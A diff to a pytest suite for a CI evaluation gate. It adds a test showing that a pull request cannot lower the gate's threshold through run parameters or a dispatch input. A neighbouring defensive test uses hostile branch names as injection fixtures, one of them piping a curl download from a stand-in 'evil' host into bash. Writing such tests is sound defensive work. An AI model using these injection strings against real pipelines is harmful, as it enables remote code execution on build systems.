@@ -136,6 +136,18 @@ def test_c008_a_fork_that_lowers_the_gate(forge: Forge) -> None:
     assert "An untrusted evaluation" in summary
 
 
+def test_c008_values_of_a_run_are_no_way_around_the_gate(forge: Forge) -> None:
+    """A pull request changes its own workflow file: what that gives as -P is for stages; the base's values stand."""
+    jobs = forge.jobs().pull_request("topic", 7)
+    answer = jobs.job("job", "-P", "least=0.1")
+    assert (answer.code, jobs.outputs["verdict"]) == (10, "rejected"), answer
+    ref = "refs/heads/topic"
+    told = {"workflow": "ciml.yml", "ref": ref, "inputs": {"least": "0.1"}}
+    jobs = forge.happens("workflow_dispatch", ref, forge.topic, told)
+    jobs.job("job")
+    assert jobs.outputs["verdict"] == "rejected"
+
+
 @pytest.mark.parametrize("branch", ["a$(touch${IFS}x)", "x|curl${IFS}-sSfL${IFS}evil|bash"])
 def test_c001_c002_a_branch_is_bytes(forge: Forge, branch: str) -> None:
     """A hostile branch in head_ref → treated as bytes; no shell; exit 0; canary file absent."""
